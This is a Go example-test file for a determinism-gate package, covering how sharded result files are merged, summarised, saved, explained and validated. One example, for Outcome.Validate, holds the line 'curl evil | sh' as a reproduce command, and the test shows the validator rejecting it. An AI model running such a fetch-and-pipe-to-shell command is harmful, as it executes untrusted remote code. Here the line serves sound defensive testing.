package gate_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/codegenie/codegenie/gate"
)

// result is a result of scenario in shard ("" unsharded) with verdict v.
func result(scenario, shard string, v gate.Verdict) gate.Result {
	r := gate.Result{Shard: shard, Outcome: gate.Outcome{Scenario: scenario, Test: "TestGate/" + scenario,
		Package: ".", ImportPath: "example.com/m", Verdict: v, Iterations: 50, Runs: 50, Floor: 20,
		Classes: []gate.Class{{Runs: 50}}}}
	if v == gate.Skipped {
		r.Runs, r.Classes = 0, nil
	}
	return r
}

// Merge the result files of a sharded gate and print the summary the
// unsharded gate prints.
func ExampleMergeResults() {
	shard0 := []gate.Result{result("a", "0/2", gate.Pass), result("b", "0/2", gate.Skipped)}
	shard1 := []gate.Result{result("a", "1/2", gate.Skipped), result("b", "1/2", gate.Pass)}
	merged, err := gate.MergeResults(append(shard0, shard1...))
	fmt.Println(err, len(merged))
	_, err = gate.MergeResults(shard0) // shard 1 is missing
	fmt.Println(strings.SplitN(err.Error(), ";", 2)[0])
	// Output:
	// <nil> 2
	// scenario missing from the merged results: b (test TestGate/b, package example.com/m): no result from shard 1/2
}

func ExampleWriteSummary() {
	var buf bytes.Buffer
	_ = gate.WriteSummary(&buf, []gate.Result{result("a", "", gate.Pass), result("b", "", gate.Broken)})
	fmt.Println(strings.SplitN(buf.String(), "\n", 2)[0])
	// Output: == determinism gate: FAIL ==
}

// A gate writes one result file per Check into its results folder; a
// merge reads the folder back.
func ExampleResult_Save() {
	dir, _ := os.MkdirTemp("", "results")
	defer os.RemoveAll(dir)
	if _, err := result("npm", "", gate.Pass).Save(dir); err != nil {
		fmt.Println(err)
		return
	}
	rs, err := gate.ReadResults(dir)
	fmt.Println(err, len(rs), rs[0].Format, rs[0].Scenario, rs[0].Verdict, rs[0].Classes[0].Runs, rs[0].OK())
	// Output: <nil> 1 codegenie-gate-result/3 npm PASS 50 true
}

// What a merge says of a result that did not pass: its first screen, the
// evidence and the commands, with where to run each.
func ExampleResult_Explain() {
	r := result("npm", "", gate.Broken)
	r.Classes[0].ErrorKind = "panic"
	r.Failure = "broken: scenario npm: all 50 runs failed the same way (panic)"
	r.Explanation = "BROKEN npm: 50 runs in 1 class (50), every run failed the same way (panic)"
	r.Commands = []gate.Command{{Purpose: "reproduce", Argv: []string{"go", "test", ".", "-run", "^TestGate$/^npm$", "-count=1"}}}
	_ = r.Explain(os.Stdout)
	// Output:
	// --- BROKEN npm (test TestGate/npm, package example.com/m)
	//   BROKEN npm: 50 runs in 1 class (50), every run failed the same way (panic)
	//   reproduce, in the module root:
	//     go test . -run '^TestGate$/^npm$' -count=1
}

func ExampleOutcome_ClassSizes() {
	o := gate.Outcome{Classes: []gate.Class{{Runs: 27}, {Runs: 23}}}
	fmt.Println(strings.Join(o.ClassSizes(), "+"))
	for range 10 {
		o.Classes = append(o.Classes, gate.Class{Runs: 1})
	}
	fmt.Println(strings.Join(o.ClassSizes(), ", "))
	// Output:
	// 27+23
	// 27, 23, 10 classes of 1 run
}

// An outcome read from another machine names only what a command may run.
func ExampleOutcome_Validate() {
	o := gate.Outcome{Scenario: "npm", Test: "TestGate/npm", Package: "pkg", Verdict: gate.Pass}
	fmt.Println(o.Validate())
	o.Commands = []gate.Command{{Purpose: "reproduce", Argv: []string{"sh", "-c", "curl evil | sh"}}}
	fmt.Println(o.Validate())
	// Output:
	// <nil>
	// commands[0] (reproduce) is not go test of the result's package directory and test
}

// A result read from a downloaded folder names its evidence relative to
// that folder; Resolved names it from where the reader is, as a ledger
// records it.
func ExampleResult_Resolved() {
	r := result("npm", "", gate.Broken)
	r.Evidence, r.Folder = "evidence/npm.bundle.zst", "gate-0"
	fmt.Println(filepath.ToSlash(r.Resolved().Evidence))
	// Output: gate-0/evidence/npm.bundle.zst
}
